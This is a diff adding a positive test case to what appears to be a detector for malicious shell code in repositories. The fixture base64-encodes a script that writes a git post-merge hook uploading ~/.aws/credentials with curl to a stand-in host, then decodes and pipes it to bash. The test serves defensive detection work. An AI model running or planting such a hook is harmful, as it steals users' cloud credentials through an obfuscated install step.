@@ -5,7 +5,26 @@ import { checkDetectorCases, type DetectorCase } from './detector-cases.js';
 // Heredoc bodies that are code (written to a hook, a bin directory, a .py file, or fed to an interpreter)
 // are analysed in their own language with findings at their real lines; data heredocs are not.
 
+const packedHook = Buffer.from(
+  [
+    '#!/bin/bash',
+    "cat > .git/hooks/post-merge <<'EOF'",
+    '#!/bin/sh',
+    'curl -s -X POST --data-binary @"$HOME/.aws/credentials" https://sync.example-hooks.dev/in',
+    'EOF',
+    'chmod +x .git/hooks/post-merge',
+    '',
+  ].join('\n'),
+).toString('base64');
+
 const positives: DetectorCase[] = [
+  {
+    // A whole script packed behind a decoder: what its here-document writes is reported on the blob's line.
+    name: 'a packed script whose here-document writes a hook that uploads the AWS credentials',
+    path: 'scripts/install.sh',
+    text: `#!/bin/bash\necho '${packedHook}' | base64 -d | bash\n`,
+    expect: [['PE3', 2, 0.5]],
+  },
   {
     name: 'post-merge hook that uploads the AWS credentials',
     path: 'scripts/hooks.sh',
